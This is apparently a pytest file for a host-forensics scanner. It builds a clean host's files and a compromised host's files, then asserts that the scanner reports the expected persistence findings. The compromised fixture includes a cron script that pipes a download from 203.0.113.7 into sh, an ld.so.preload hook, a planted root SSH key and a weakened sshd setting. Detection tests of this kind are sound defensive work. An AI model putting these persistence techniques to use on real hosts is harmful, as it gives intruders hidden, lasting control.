"""A host's files as intruders leave them, and a clean host's: looked at by the sensor, then scanned."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

from davylamp.agent.packages import Packages
from davylamp.agent.record import Look, Recorder
from davylamp.agent.state import collect_state
from davylamp.app.scan import ScanRequest, scan

KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIN7lzZ0T1q0f2sC3zO7Qz3b1mYq9x2n8c0d4e5f6g7h8"


def put(root: Path, path: str, text: str, mode: int = 0o644) -> None:
    place = root / path.lstrip("/")
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(text, encoding="utf-8")
    place.chmod(mode)


def clean(root: Path) -> None:
    put(
        root,
        "/etc/passwd",
        "root:x:0:0::/root:/bin/bash\nanna:x:1000:1000::/home/anna:/bin/bash\nnews:x:9:9::/var/spool/news:/usr/sbin/nologin\n",
    )
    put(root, "/etc/shadow", "root:$y$x:1::::::\nanna:$y$x:1::::::\nnews:*:1::::::\n", 0o600)
    put(root, "/etc/hosts", "127.0.0.1 localhost\n10.0.0.5 web1.example.org web1\n")
    put(root, "/etc/ssh/sshd_config", "PermitRootLogin prohibit-password\nPasswordAuthentication no\n")
    put(root, "/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    put(root, "/etc/cron.d/certbot", "0 */12 * * * root certbot -q renew\n")
    put(root, "/usr/local/bin/backup", "#!/bin/sh\nrsync -a /srv backup@10.0.0.9:/srv\n", 0o755)
    put(
        root,
        "/etc/systemd/system/app.service",
        "[Service]\nUser=anna\nExecStart=/srv/app/.venv/bin/python /srv/app/run.py\n",
    )
    put(root, "/home/anna/.ssh/authorized_keys", f"ssh-ed25519 {KEY} anna@laptop\n", 0o600)
    put(root, "/home/anna/.bashrc", '. "$HOME/.cargo/env"\nalias ll="ls -l"\n')


def taken(root: Path) -> None:
    clean(root)
    put(root, "/etc/ld.so.preload", "/usr/local/lib/libmetrics.so\n")
    put(root, "/usr/local/lib/libmetrics.so", "\x7fELF")
    put(root, "/var/spool/cron/crontabs/root", "* * * * * /usr/local/bin/sync-time >/dev/null 2>&1\n", 0o600)
    put(
        root,
        "/usr/local/bin/sync-time",
        "#!/bin/sh\n(curl -s http://203.0.113.7/a.sh || wget -qO- http://203.0.113.7/a.sh) | sh\n",
        0o755,
    )
    put(root, "/etc/hosts", "127.0.0.1 localhost\n0.0.0.0 pool.supportxmr.com\n0.0.0.0 pool.hashvault.pro\n")
    put(root, "/etc/ssh/sshd_config", "PermitRootLogin yes\n")
    for home in ("/root", "/home/anna", "/var/spool/news"):
        put(root, f"{home}/.ssh/authorized_keys", f"ssh-ed25519 {KEY}\n", 0o600)


def found(tmp_path: Path) -> dict[str, dict[str, Any]]:
    evidence = tmp_path / "look.jsonl"
    with evidence.open("w", encoding="ascii") as out:
        recorder = Recorder(out.write, "web1")
        look = Look(recorder, time.time(), str(tmp_path / "root"))
        recorder.header(look.at)
        collect_state(look, Packages(look))
    result = scan(ScanRequest(paths=(str(evidence),), case_folder=tmp_path / "case"))
    assert result.failures == ()
    return {finding["unit"]: finding for finding in result.document["findings"]}


def test_a_taken_host_tells_how_it_is_kept(tmp_path: Path) -> None:
    taken(tmp_path / "root")
    findings = found(tmp_path)
    assert set(findings) >= {
        "authorized_keys_rewritten",
        "fetching_persistence",
        "hosts_file_tampering",
        "preload_hook",
        "weak_sshd_setting",
    }
    fetching = findings["fetching_persistence"]
    assert fetching["severity"] == "high"
    assert "203.0.113.7" in fetching["because"]
    assert "/usr/local/bin/sync-time:2" in fetching["because"], "the line of the script that the table runs"


def test_a_clean_host_is_quiet(tmp_path: Path) -> None:
    clean(tmp_path / "root")
    assert found(tmp_path) == {}
